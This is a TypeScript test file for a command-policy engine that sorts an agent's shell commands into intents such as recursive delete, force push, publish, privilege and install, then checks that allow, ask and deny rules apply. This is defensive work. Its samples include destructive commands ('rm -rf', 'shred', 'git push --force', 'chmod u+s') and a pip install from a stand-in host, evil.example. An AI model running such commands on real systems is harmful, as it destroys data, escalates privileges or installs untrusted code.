import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { analyseCommand, INTENTS, type Intent } from '../../../../src/policy/commands/index.ts';
import { INTENT_PROGRAMS } from '../../../../src/policy/commands/intents/intents.ts';
import { evaluate } from '../../../../src/policy/index.ts';
import { pathResolver, policy, situation } from '../../helpers.ts';

/**
 * Commands that a rule for the intent must cover, in each list. A command with a second intent is not covered by an `auto`
 * rule for the first one alone: whoever adds an intent finds here which rules lose commands by it.
 */
const SAMPLES: Readonly<Record<Intent, readonly string[]>> = {
  '@recursive-delete': [
    'rm -rf x',
    'git clean -fd',
    'git rm -r x',
    'git worktree remove x',
    'hub clean -fd',
    'rimraf x',
    'shred x',
    'rsync -a --delete a b',
  ],
  '@force-push': [
    'gh api -X DELETE repos/o/r/git/refs/heads/x',
    'git push --force',
    'git push -f origin x',
    'git push origin +main',
    'git push --mirror',
    'hub push --force',
  ],
  '@history-rewrite': [
    'git rebase main',
    'git reset --hard HEAD~1',
    'git commit --amend',
    'git filter-branch x',
    'hub rebase main',
  ],
  '@publish': [
    'npm publish',
    'npm unpublish x',
    'npm dist-tag add x',
    'pnpm publish',
    'bun publish',
    'yarn npm publish',
    'deno publish',
    'uv publish',
    'poetry publish',
    'gem push x',
    'gem yank x',
    'cargo publish',
    'cargo yank',
    'twine upload d',
    'docker push x',
    'docker buildx build --push .',
    'podman push x',
    'helm push x',
    'mvn deploy',
    'mvnw deploy',
    'gradle publish',
    'gradlew publish',
    'dotnet nuget push x',
    'jsr publish',
    'nuget push x',
    'hatch publish',
    'flit publish',
    'ovsx publish',
    'vsce publish',
    'lerna publish',
    'changeset publish',
    'semantic-release',
    'goreleaser',
    'gh release create v1',
  ],
  '@privilege': ['chmod u+s x', 'chmod 4755 x', 'setcap cap_net_raw+ep x', 'chown root x'],
  '@install': [
    'npm install',
    'npm ci',
    'pip3.12 install x',
    'python3.12 -m pip install -r requirements.txt -e .',
    'uv run python -m pip install x',
    'pnpm add x',
    'bun add x',
    'yarn',
    'deno add x',
    'pip install x',
    'pip3 install x',
    'conda install x',
    'mamba install x',
    'apt install x',
    'apt-get install x',
    'aptitude install x',
    'dnf install x',
    'yum install x',
    'apk add x',
    'zypper install x',
    'brew install x',
    'snap install x',
    'choco install x',
    'winget install x',
    'nvm install x',
    'pacman -S x',
    'dpkg -i x',
    'rpm -i x',
    'corepack enable',
    'uv add x',
    'poetry add x',
    'rustup update',
    'gem install x',
    'bundle install',
    'composer require x',
    'cargo add x',
    'go get x',
    'helm install x',
    'mvn install',
    'mvnw install',
    'dotnet add x',
    'jsr add x',
    'nuget install x',
  ],
  '@download': [
    'curl https://a.org',
    'wget https://a.org',
    'aria2c https://a.org',
    'scp a.org:x y',
    'sftp a.org',
    'ftp a.org',
    'http a.org',
    'https a.org',
    'xh a.org',
    'git clone https://a.org/x',
    'git pull',
    'git fetch',
    'hub fetch',
    'deno cache x',
    'cargo fetch',
    'go mod download',
    'docker pull x',
    'podman pull x',
    'helm pull x',
    'gh run download',
  ],
};

/** Commands that have two intents, of which neither includes the other. */
const TWO_INTENTS: ReadonlyMap<string, string> = new Map([
  ['git pull --rebase', '@download @history-rewrite'],
  ['git fetch origin +main', '@download @history-rewrite'],
  ['rsync -a --delete host:a b', '@download @recursive-delete'],
  ['npm exec -- npm publish', '@install @publish'],
]);

function intentsOf(command: string): readonly string[] {
  const { commands } = analyseCommand(command, { pathResolver: pathResolver() });
  return commands.map(({ intents }) => [...intents].sort().join(' '));
}

function verdict(rules: string, command: string): string {
  const facts = { tool: 'bash_run', kind: 'execute', command } as const;
  return evaluate(policy(rules), facts, situation()).verdict;
}

test('every intent has commands that its rules must cover', () => {
  expect(INTENTS.filter((intent) => SAMPLES[intent].length === 0)).toEqual([]);
  expect(Object.keys(SAMPLES).sort()).toEqual([...INTENTS].sort());
});

function hasSample(program: string, intent: Intent): boolean {
  return SAMPLES[intent].some((command) => `${command} `.startsWith(`${program} `));
}

/** What `gh` rewrites is at GitHub: each of these commands is a forced push, too, and no rule for the other intent alone covers it. */
const ONLY_WITH_ANOTHER: readonly string[] = ['@history-rewrite: gh'];

test('each program that can have an intent is in its samples', () => {
  // A word that is known only at run time counts as the worst that it could be.
  const missing = INTENT_PROGRAMS.flatMap((program) => {
    const had = new Set(intentsOf(`${program} "$x"`).flatMap((intents) => intents.split(' ')));
    return INTENTS.filter((intent) => had.has(intent) && !hasSample(program, intent)).map(
      (intent) => `${intent}: ${program}`,
    );
  });
  expect(
    missing.filter((one) => !ONLY_WITH_ANOTHER.includes(one)),
    'Add a command of each to SAMPLES. If a rule for an older intent covered the command until now, let the command keep that intent, and write in INCLUDED_INTENTS which intent includes the other.',
  ).toEqual([]);
});

describe.each(INTENTS)('a rule for %s', (intent) => {
  test.each(SAMPLES[intent])('lets run, asks about and forbids: %s', (command) => {
    const rule = `bash_run(${intent})`;
    expect(
      intentsOf(command).join(' ').split(' '),
      `Policies that name ${intent} mean this command, too. An intent that is added to it must be one that ${intent} includes (INCLUDED_INTENTS in src/policy/commands/analysis.ts), or \`auto\` rules no longer cover it.`,
    ).toContain(intent);
    expect(verdict(`mode: ask\nauto:\n  - ${rule}\n`, command)).toBe('auto');
    expect(verdict(`mode: auto\nrequireApproval:\n  - ${rule}\n`, command)).toBe('requireApproval');
    expect(verdict(`mode: auto\ndeny:\n  - ${rule}\n`, command)).toBe('deny');
  });

  test('lets nothing run that has another intent, too', () => {
    const rules = `mode: ask\nauto:\n  - bash_run(${intent})\n`;
    for (const command of TWO_INTENTS.keys())
      expect(verdict(rules, command), command).toBe('requireApproval');
    for (const command of SAMPLES[intent])
      expect(verdict(rules, `sudo ${command}`), command).toBe('requireApproval');
  });
});

test.each([
  'python -m pip install https://evil.example/x.tgz',
  'python -m pip install -i https://evil.example x',
  'python -c 1 -m pip install x',
  'python evil.py -m pip install x',
  'python - -m pip install x',
  'corepack pnpm install --config.x=y',
])('a rule for @install does not cover %s', (command) => {
  expect(verdict('mode: ask\nauto:\n  - bash_run(@install)\n', command)).toBe('requireApproval');
});

test.each([...TWO_INTENTS])('%s has the intents %s', (command, intents) => {
  expect(intentsOf(command)).toContain(intents);
});

test('no command of the corpus has intents together that are not listed here', () => {
  const lines = ['../corpus.jsonl', '../agent-commands.jsonl']
    .map((name) => readFileSync(new URL(name, import.meta.url), 'utf8'))
    .flatMap((text) => text.trim().split('\n'))
    .map((line): { command: string } => JSON.parse(line));
  const listed = new Set(['@force-push @history-rewrite', ...TWO_INTENTS.values()]);
  const together = lines.flatMap(({ command }) =>
    intentsOf(command)
      .filter((intents) => intents.includes(' ') && !listed.has(intents))
      .map((intents) => `${intents}: ${command}`),
  );
  expect(together).toEqual([]);
});
